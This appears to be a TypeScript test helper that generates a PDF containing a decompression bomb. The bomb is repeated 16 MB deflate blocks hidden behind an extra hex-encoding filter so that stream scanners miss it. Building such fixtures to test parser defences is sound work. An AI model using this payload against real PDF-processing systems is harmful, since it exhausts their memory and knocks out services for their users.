import { constants, deflateRawSync } from "node:zlib";

/**
 * A PDF of one page whose content unfolds to `times` times 16 MB of blanks, behind a second filter, where the
 * search for such streams does not see it.
 */
export function hostilePdf(times: number): Uint8Array {
  // Ended at a byte boundary, so that it can stand there any number of times.
  const part = deflateRawSync(Buffer.alloc(16_000_000, 32), { finishFlush: constants.Z_FULL_FLUSH });
  const packed = Buffer.concat([
    Buffer.from([0x78, 0x9c]),
    ...Array.from({ length: times }, () => part),
    deflateRawSync(Buffer.alloc(0)),
    Buffer.alloc(4),
  ]);
  const content = `${packed.toString("hex")}>`;
  const objects = [
    "<< /Type /Catalog /Pages 2 0 R >>",
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << >> /Contents 4 0 R >>",
    `<< /Length ${content.length} /Filter [/ASCIIHexDecode /FlateDecode] >>\nstream\n${content}\nendstream`,
  ];
  let text = "%PDF-1.4\n";
  const starts = objects.map((object, i) => {
    const start = text.length;
    text += `${i + 1} 0 obj\n${object}\nendobj\n`;
    return start;
  });
  const entries = starts.map((start) => `${String(start).padStart(10, "0")} 00000 n \n`).join("");
  text += `xref\n0 5\n0000000000 65535 f \n${entries}trailer\n<< /Size 5 /Root 1 0 R >>\nstartxref\n${text.length}\n%%EOF\n`;
  return Buffer.from(text, "latin1");
}
